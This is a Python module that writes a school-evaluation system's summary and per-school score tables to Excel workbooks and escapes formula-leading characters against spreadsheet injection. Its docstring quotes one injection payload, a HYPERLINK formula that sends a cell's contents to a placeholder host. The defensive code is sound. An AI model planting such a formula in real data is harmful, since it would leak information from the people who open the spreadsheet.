"""Excel versions of the summary tables (pandas + openpyxl), safe to open.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and tab
or CR can smuggle one in): a school name like ``=HYPERLINK("http://x/?"&A1)`` would run when a
bureau officer opens the export. Every string — cells, headers and sheet names — that starts
with one of those characters is written as text with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import Any

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

from checklist.model import Rubric
from checklist.scoring import STATUS_LABELS, Status
from reports.model import RegionReport, SchoolResult

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_STATUS_LABEL = {status.value: label for status, label in STATUS_LABELS.items()}


def neutralise(value: Any) -> Any:
    """A cell value no spreadsheet will execute, that every workbook can hold: a string
    starting with a formula character gets a leading ``'``; characters XML cannot hold (a
    ``\v`` in a title) are removed; anything else is returned as it is. The one such function
    of the project: every workbook writer uses it."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if value.startswith(FORMULA_PREFIXES):
            return "'" + value
    return value


def _frame(rows: Sequence[Sequence[Any]], columns: Sequence[str]) -> pd.DataFrame:
    safe_rows = [[neutralise(v) for v in row] for row in rows]
    return pd.DataFrame(safe_rows, columns=[str(neutralise(c)) for c in columns], dtype=object)


def _write(sheets: Sequence[tuple[str, pd.DataFrame]]) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets:
            sheet_name = str(neutralise(name))[:31]
            frame.to_excel(writer, sheet_name=sheet_name, index=False)
            sheet = writer.sheets[sheet_name]
            sheet.freeze_panes = "A2"
            for index, column in enumerate(frame.columns, start=1):
                values = [str(column), *(str(v) for v in frame.iloc[:, index - 1] if v is not None)]
                width = max((_display_width(v) for v in values[:200]), default=8)
                sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 6), 60)
    return buffer.getvalue()


def _display_width(text: str) -> int:
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def region_workbook(report: RegionReport) -> bytes:
    """The region summary's tables as an .xlsx file (bytes)."""
    overview = _frame(
        [
            ("区域", report.region),
            ("评估周期", report.meta.cycle),
            ("评估细则", f"{report.rubric_title}（{report.rubric_label}）"),
            ("参评学校数", report.school_count),
            ("平均分", report.average),
            ("中位数", report.median),
            ("一票否决学校数", len(report.veto_schools)),
            ("报告日期", report.meta.date),
        ],
        ["项目", "内容"],
    )
    levels = _frame(
        [(lc.level, lc.count, lc.share) for lc in report.level_counts],
        ["等级", "学校数", "占比（%）"],
    )
    ranking = _frame(
        [
            (r.rank, r.name, r.code, r.district, r.total, r.level, "是" if r.veto_failed else "否")
            for r in report.ranking
        ],
        ["名次", "学校名称", "学校代码", "区县", "总分", "等级", "一票否决"],
    )
    district_names = [d.district for d in report.districts]
    dimensions = _frame(
        [(d.id, d.title, d.average, d.schools, *d.by_district) for d in report.dimensions],
        ["编号", "一级指标", "平均得分率（%）", "参评学校数", *district_names],
    )
    item_columns = [
        "编号",
        "评估要点",
        "一级指标",
        "达标",
        "部分达标",
        "未达标",
        "不适用",
        "未填报",
        "达标率（%）",
        "一票否决项",
        "加分项",
    ]
    items = _frame([_item_row(c) for c in report.items], item_columns)
    problems = _frame([_item_row(c) for c in report.common_problems], item_columns)
    districts = _frame(
        [(d.district, d.schools, d.average, *d.levels, d.veto_failed, d.compliance) for d in report.districts],
        ["区县", "学校数", "平均分", *report.levels, "一票否决", "要点达标率（%）"],
    )
    return _write(
        [
            ("总体情况", overview),
            ("等级分布", levels),
            ("学校排名", ranking),
            ("一级指标", dimensions),
            ("要点达标率", items),
            ("突出问题", problems),
            ("区县情况", districts),
        ]
    )


def _item_row(c: Any) -> tuple[Any, ...]:
    return (
        c.item_id,
        c.title,
        c.dimension,
        c.met,
        c.partial,
        c.not_met,
        c.not_applicable,
        c.unanswered,
        c.rate,
        "是" if c.veto else "",
        "是" if c.bonus else "",
    )


def scores_workbook(rubric: Rubric, results: Iterable[SchoolResult]) -> bytes:
    """One row per school: totals, levels, the percent of every 一级指标 and the result of
    every item (达标/部分达标/…), as an .xlsx file (bytes)."""
    dims = [d for d in rubric.dimensions if not all(i.bonus for i in d.items)]
    columns = [
        "学校代码",
        "学校名称",
        "区县",
        "总分",
        "等级",
        "一票否决",
        "评估阶段",
        *(f"{d.id} {d.title}（%）" for d in dims),
        *(f"{i.id} {i.title}" for i in rubric.items),
    ]
    rows: list[tuple[Any, ...]] = []
    for school in results:
        dim_values = dict(school.dimensions)
        statuses = dict(school.items)
        rows.append(
            (
                school.code,
                school.name,
                school.district,
                school.total,
                school.level,
                "是" if school.veto_failed else "否",
                school.stage,
                *(dim_values.get(d.id) for d in dims),
                *(_STATUS_LABEL.get(statuses.get(i.id, ""), "") for i in rubric.items),
            )
        )
    legend = _frame(
        [(s.label, _legend(s)) for s in Status],
        ["要点结果", "含义"],
    )
    return _write([("学校得分", _frame(rows, columns)), ("说明", legend)])


def _legend(status: Status) -> str:
    return {
        Status.MET: "达到要求，得满分",
        Status.PARTIAL: "接近要求，按比例或档次得部分分",
        Status.NOT_MET: "未达到要求，不得分",
        Status.NOT_APPLICABLE: "本项不适用于该校，不计分",
        Status.UNANSWERED: "学校尚未填报",
    }[status]
